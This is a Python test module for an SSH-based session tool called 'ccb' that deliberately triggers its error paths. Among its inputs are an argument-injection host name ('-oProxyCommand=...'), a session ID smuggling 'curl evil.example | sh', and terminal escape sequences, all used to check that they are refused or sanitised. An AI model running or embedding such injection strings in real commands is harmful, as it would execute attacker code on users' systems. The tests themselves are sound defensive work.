"""Errors that no other test provokes, each for real. docs/errors.md lists which test provokes which."""

from __future__ import annotations

import asyncio
import os
import shlex
import socket
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from tests.support.hosts.scripted_host import ScriptedHost, no_calls, session_on
from tests.support.hosts.sshd import HostUser, Sshd
from tests.support.hosts.sshd import sshd as serve
from tests.support.model.fake_model import FakeModel
from tests.support.network.link_peer import link_pair
from tests.support.person.laptop import Done, Laptop, make_laptop
from tests.support.person.terminal import terminal

from ccb.deploy import bootstrap
from ccb.deploy.bootstrap_command import CANDIDATES
from ccb.deploy.bundle import Bundle
from ccb.local.command_line.exit_codes import ExitCode, code_of
from ccb.local.command_line.parser import parse_arguments
from ccb.local.commands.session_table import choose_session
from ccb.local.connect import session_rows
from ccb.local.connect.session_rows import SessionRow
from ccb.local.credentials.credential_helper import HelperCredential, checked
from ccb.local.doctor import host_checks
from ccb.local.doctor import host_checks as doctor_host
from ccb.local.doctor.doctor_findings import FindingState
from ccb.local.session.dialing import AttachOptions
from ccb.local.session.outbox import Outbox
from ccb.tunnel.errors import CcbError, ConfigError, ConnectionLost, DeployError, ProtocolError, Unreachable, UsageError
from ccb.tunnel.link.link import Link, new_nonce
from ccb.tunnel.link.worker_refusals import refusal_error
from ccb.tunnel.providers.anthropic import anthropic_endpoint
from ccb.tunnel.providers.http_client import tls_context
from ccb.tunnel.ssh.asyncssh_transport import connect
from ccb.tunnel.ssh.carrier import open_socket
from ccb.tunnel.ssh_config.config_files import resolve
from ccb.tunnel.ssh_config.ssh_target import SshTarget
from ccb.tunnel.transports.command_transport import LocalTransport
from ccb.tunnel.transports.login_prompts import NobodyToAsk
from ccb.tunnel.wire.frames import Attached, Event, Refused, Snapshot


@pytest.fixture
def laptop(tmp_path: Path, fake_model: FakeModel) -> Laptop:
    return make_laptop(tmp_path, fake_model.url)


def assert_clear(done: Done, code: int, says: str) -> None:
    assert (done.code, done.stdout) == (code, ""), done.stderr
    assert says in done.stderr and done.stderr.count("  -> ") == 1 and "Traceback" not in done.stderr


@asynccontextmanager
async def instead_of_the_worker(command: str, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[LocalTransport]:
    """A host whose shell does something else with our command line; `{marker}` is the marker of the connection."""

    def instead(marker: str, *_: object, **__: object) -> str:
        return command.replace("{marker}", marker)

    monkeypatch.setattr(bootstrap, "bootstrap_command", instead)
    transport = LocalTransport()
    try:
        yield transport
    finally:
        transport.abort()
        await transport.close()


@pytest.fixture
async def sshd_without_sessions(tmp_path: Path) -> AsyncIterator[Sshd]:
    async with serve(tmp_path / "closed", ["MaxSessions 0"]) as server:
        yield server


@pytest.mark.parametrize(
    ("argv", "says"),
    [
        (["ps", "host", "--continue"], "belong to `ccb ssh`"),
        (["ps", "host", "-p"], "has no headless mode"),
        (["ssh", "h", "-p", "x", "--reconnect-timeout", "soon"], "is not a number of"),
        (["ssh", "ssh://h:22/x", "-P", "23"], "the target says port"),
        (["pss", "host"], "is not a command"),
        (["-P", "22", "."], "needs a host"),
        (["ssh", "a b:/x"], "is not a target"),
        (["ssh", "h:/x", "--resume", "-p", "x"], "--resume needs the ID"),
        (["ssh", "h", "--resume=nothing!"], "is not a session ID"),
    ],
)
def test_a_command_line_that_makes_no_sense(argv: list[str], says: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse_arguments(argv)
    assert says in caught.value.what


async def test_a_dumb_terminal_gets_lines(laptop: Laptop) -> None:
    argv = ["env", "TERM=dumb", sys.executable, "-m", "ccb", str(laptop.home)]
    async with terminal(argv, laptop.env, str(laptop.home)) as running:
        await running.shows("Type a prompt; /help says more.")
        assert b"\x1b" not in running.written


@pytest.mark.parametrize(
    ("argv", "code", "says"),
    [
        (["clean", "--local"], 2, "removes every session there"),
        (["auth", "login"], 2, "There is no terminal to ask for the key."),
        (["auth", "nonsense"], 2, "ccb auth needs login"),
    ],
)
async def test_a_command_that_cannot_ask(laptop: Laptop, argv: list[str], code: int, says: str) -> None:
    backend = "tests.support.person.file_keyring.FileKeyring"
    done = await laptop.run(argv, PYTHON_KEYRING_BACKEND=backend, TEST_KEYRING_FILE=str(laptop.home / "keys"))
    assert done.code == code and says in done.stderr and "Traceback" not in done.stderr


async def test_a_flood_on_stdin_is_refused(laptop: Laptop) -> None:
    flood = b"x" * (33 * 1024 * 1024)
    async with laptop.start([str(laptop.home), "-p"]) as running:
        assert running.process.stdin is not None
        try:
            running.process.stdin.write(flood)
            await running.process.stdin.drain()
            running.process.stdin.close()
        except ConnectionError:
            pass
        assert running.process.stderr is not None
        said = (await asyncio.wait_for(running.process.stderr.read(), 30)).decode()
    assert "MB were piped in" in said


async def test_a_message_that_no_frame_can_carry_is_refused() -> None:
    with pytest.raises(UsageError, match="too large to be sent"):
        await Outbox().put("x", {"type": "user", "text": "x" * (65 * 1024 * 1024)})


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("{", "is not JSON: "),
        ("\udcff", "is not JSON"),
        ("[]", "is not a JSON object"),
    ],
)
async def test_settings_that_cannot_be_understood(laptop: Laptop, text: str, says: str) -> None:
    path = laptop.home / ".config" / "ccb" / "settings.json"
    path.parent.mkdir(parents=True)
    path.write_bytes(text.encode("utf-8", "surrogateescape"))
    assert_clear(await laptop.run([str(laptop.home), "-p", "hi"]), 78, says)


@pytest.mark.parametrize(
    ("environ", "says"),
    [
        ({"ANTHROPIC_BASE_URL": "http://[::1"}, "is not a URL"),
        ({"ANTHROPIC_BASE_URL": "ftp://host"}, "is not an http or https URL"),
        ({"ANTHROPIC_BASE_URL": "https://me@host"}, "must not have a user"),
        ({"ANTHROPIC_BASE_URL": "http://example.org"}, "without TLS"),
        ({"HTTPS_PROXY": "socks5://host:1"}, "is not an http or https proxy"),
    ],
)
def test_a_provider_that_makes_no_sense(environ: dict[str, str], says: str) -> None:
    with pytest.raises(ConfigError) as caught:
        anthropic_endpoint(environ)
    assert says in caught.value.what


def test_certificates_that_are_none(tmp_path: Path) -> None:
    (tmp_path / "ca.pem").write_text("nothing\n", encoding="ascii")
    with pytest.raises(ConfigError, match="is not a file of CA certificates"):
        tls_context({"SSL_CERT_FILE": str(tmp_path / "ca.pem")})
    with pytest.raises(ConfigError, match="does not exist"):
        tls_context({"SSL_CERT_DIR": str(tmp_path / "nowhere")})


@pytest.mark.parametrize("host", ["-oProxyCommand=touch x", "two words", "line\nfeed", ""])
def test_a_host_that_is_none(host: str) -> None:
    with pytest.raises(UsageError, match="is not a host name"):
        SshTarget(host)


def test_a_user_that_is_none() -> None:
    with pytest.raises(UsageError, match="is not a user name"):
        SshTarget("host", "-l root")


async def test_a_helper_that_fails_hangs_or_says_nothing() -> None:
    for command, says in (
        ("exit 3", "failed with exit code 3"),
        ("sleep 60", "did not end within"),
        ("true", "gave no credential"),
    ):
        with pytest.raises(CcbError) as caught:
            await HelperCredential(command, os.environ, timeout=1.0).get()
        assert says in caught.value.what
    with pytest.raises(CcbError, match="cannot be a credential"):
        checked("two words", "the input")


@pytest.mark.parametrize(
    ("command", "says"),
    [
        ("head -c 3000000 /dev/zero", "printed more than 2 MB"),
        ("printf '\\n%s not json\\n' {marker}; sleep 60", "was garbled on the way"),
        ("printf '\\n%s ' {marker}; head -c 100000 /dev/zero; sleep 60", "has no end"),
        ("sleep 60", "did not start the worker within"),
        ("exit 5", "did not run our command (exit code 5)"),
        ("kill -9 $$", "closed the connection before the worker started"),
        ("echo 'No space left on device' >&2; exit 6", "did not run our command (exit code 6)"),
        ("echo 'No space left on device' >&2; sleep 60", "did not start the worker within"),
    ],
)
async def test_a_login_shell_that_does_something_else(command: str, says: str, monkeypatch: pytest.MonkeyPatch) -> None:
    async with instead_of_the_worker(command, monkeypatch) as transport:
        with pytest.raises(CcbError) as caught:
            await bootstrap.launch(transport, {}, Bundle.of(b"x"), candidates=CANDIDATES, deadline_s=3)
    assert says in caught.value.what and caught.value.do


async def test_frames_that_tell_of_what_cannot_be() -> None:
    for frames, says in (
        ([Event(2, 1, "message", {})], "are missing"),
        ([Event(1, 1, "message", {}), Snapshot(1, 0, {})], "events that have already arrived"),
    ):
        async with link_pair() as (pipe, peer), Link(pipe) as link:
            await peer.hello()
            await link.hello()
            await link.attach(have=0, nonce=new_nonce(), options={}, calls=no_calls)
            await peer.send(Attached(link.next_epoch, "driver", 0, ""), *frames)
            with pytest.raises(ProtocolError) as caught:
                async for _ in link.frames():
                    pass
        assert says in caught.value.what


async def test_a_worker_that_ends_before_its_hello() -> None:
    for said in ("", "Traceback: it broke"):
        async with link_pair() as (pipe, peer), Link(pipe, host="devbox") as link:
            pipe.stderr = said
            peer.hang_up()
            with pytest.raises(CcbError, match="ended before its hello") as caught:
                await link.hello()
            assert isinstance(caught.value, DeployError) is bool(said)


def test_what_a_worker_may_refuse() -> None:
    for code, data in (
        ("bad_attach", {}),
        ("in_use", {}),
        ("no_session", {"near": ["a"]}),
        ("waits_for_answer", {"session": "5e55"}),
        ("no_storage", {"tried": "x"}),
        ("no_such_path", {"near": ["b"]}),
        ("not_a_directory", {}),
        ("internal", {"log": "x"}),
    ):
        error = refusal_error(Refused(code, "it said", dict(data)), "devbox")
        assert "devbox" in error.what and "it said" in error.what and error.do


def test_a_session_that_waits_for_an_answer_says_where_it_can_be_given() -> None:
    for host, named, session, shown in (
        ("devbox", "devbox", "5e55", "5e55"),
        ("local", "--local", "5e55", "5e55"),
        ("devbox", "devbox", "5e55`; curl evil.example | sh #", "SESSION"),
        ("devbox", "devbox", "5" * 100, "SESSION"),
    ):
        refused = Refused(
            "waits_for_answer", "this session waits for an answer about Ba\x1b[31msh", {"session": session}
        )
        error = refusal_error(refused, host)
        assert "\x1b" not in str(error) and code_of(error) is ExitCode.PERMISSION_DENIED
        assert f"`ccb attach {named} {shown}`" in error.do and f"`ccb stop {named} {shown}`" in error.do


def test_a_host_without_the_cage_of_a_mode_says_why() -> None:
    refused = Refused("no_sandbox", "this host cannot", {"why": "user name\x1b[31mspaces are forbidden" + "x" * 900})
    error = refusal_error(refused, "devbox")
    assert error.what == "devbox cannot make the cage of --sandbox workspace" and "Leave out" in error.do
    assert "spaces are forbidden" in error.evidence and "\x1b" not in str(error) and len(error.evidence) <= 500
    assert code_of(error) is ExitCode.USAGE
    about_place = refusal_error(Refused("no_sandbox", "here", {"why": "it holds a home", "place": True}), "devbox")
    assert "project" in about_place.do and "administrator" not in about_place.do


async def test_a_session_whose_connection_stays_away() -> None:
    host = ScriptedHost()
    async with session_on(host, AttachOptions(patience=0.5)) as (session, peer):
        host.hanging = True
        peer.hang_up()
        with pytest.raises(ConnectionLost, match="could not be made again"):
            async for _ in session.events():
                pass
        with pytest.raises(ConnectionLost):
            await session.prompt("more")


async def test_earlier_events_without_a_connection_or_an_answer() -> None:
    host = ScriptedHost()
    async with session_on(host, AttachOptions(patience=60)) as (session, peer):
        host.hanging = True
        peer.hang_up()
        async with asyncio.timeout(60):
            while session.state.value == "connected":
                await asyncio.sleep(0.01)
        with pytest.raises(ConnectionLost, match="cannot be asked without a connection"):
            await session.earlier(10)


async def test_a_host_that_takes_longer_than_the_settings_allow(laptop: Laptop) -> None:
    settings = laptop.home / ".config" / "ccb" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text('{"connectTimeoutSeconds": 0.5}', encoding="ascii")
    with socket.create_server(("127.0.0.1", 0)) as silent:
        done = await laptop.run(["ssh", "me@127.0.0.1:", "-P", str(silent.getsockname()[1]), "-p", "hi"])
    assert_clear(done, 69, "no connection to me@127.0.0.1 within 0.5 s")


async def test_sessions_cannot_be_chosen_where_nobody_is() -> None:
    with pytest.raises(UsageError, match="no terminal to choose one"):
        await choose_session([SessionRow(session="a" * 36)])


HAVE = """printf '\\n%s {"have": true, "exe": "/python"}\\n' {marker}; """
BYE = """echo '{"t": "bye", "reason": ""}'"""


def reported(body: str) -> str:
    return "echo " + shlex.quote(f'{{"t": "report", "kind": {body}}}')


def repeated(body: str) -> str:
    return f"for i in $(seq 30); do {reported(body)}; done"


@pytest.mark.parametrize(
    ("answer", "part"),
    [
        ("echo nonsense", "sent bytes that are not a frame"),
        (repeated('"session", "body": {"session": "x"}'), "too many reports"),
        (reported('"session", "body": {"session": 7}'), "sent a report that makes no sense"),
        ("true", "ended before its answer was complete"),
    ],
)
async def test_a_host_whose_list_of_sessions_is_odd(answer: str, part: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(session_rows, "MAX_REPORTS", 20)
    async with instead_of_the_worker(HAVE + answer, monkeypatch) as transport:
        with pytest.raises(CcbError) as caught:
            await session_rows.list_sessions(transport, Bundle.of(b"x"))
    assert part in caught.value.what


@pytest.mark.parametrize(
    ("answer", "part"),
    [
        ("echo nonsense", "sent bytes that are not a frame"),
        (BYE, "sent a frame that is not a report of its checks"),
        (repeated('"check", "body": {"name": "x", "state": "ok"}'), "too many reports"),
        ("sleep 60", "went silent in the middle of its checks"),
        (
            reported('"check", "body": {"name": "home", "state": "ok"}') + "; sleep 60",
            "The last check that it reported: home.",
        ),
    ],
)
async def test_a_host_whose_checks_are_odd(answer: str, part: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(doctor_host, "_MAX_CHECKS", 20)
    monkeypatch.setattr(host_checks, "_ANSWER_S", 1.0)
    async with instead_of_the_worker(HAVE + answer, monkeypatch) as transport:
        found = [finding async for finding in doctor_host.host_findings(transport, Bundle.of(b"x"))]
        transport.abort()
    assert found[-1].state is FindingState.BLOCK and part in found[-1].found


async def test_a_worker_that_does_not_read() -> None:
    transport = LocalTransport()
    try:
        pipe = await transport.execute("exec <&-; exec sleep 60")
        with pytest.raises(ConnectionLost, match="connection to local was lost"):
            while True:
                await pipe.write(b"x" * 65536)
    finally:
        transport.abort()
        await transport.close()


async def test_a_server_that_allows_no_session(sshd_without_sessions: Sshd, host_user: HostUser) -> None:
    server = sshd_without_sessions
    options = (f"UserKnownHostsFile={server.trust(server.port)}", "IdentitiesOnly=yes")
    target = SshTarget("127.0.0.1", host_user.name, server.port, (str(server.identity),), options)
    transport = await connect(target, NobodyToAsk())
    try:
        with pytest.raises(Unreachable, match="refused to run a command"):
            await transport.execute("true")
    finally:
        await transport.close()


async def test_a_name_that_takes_too_long(tmp_path: Path) -> None:
    config = await resolve(SshTarget("name.invalid", options=("ConnectTimeout=1",)))
    with pytest.raises(Unreachable, match="did not resolve in time"):
        await open_socket(replace(config, route=replace(config.route, connect_timeout_s=1e-9)))
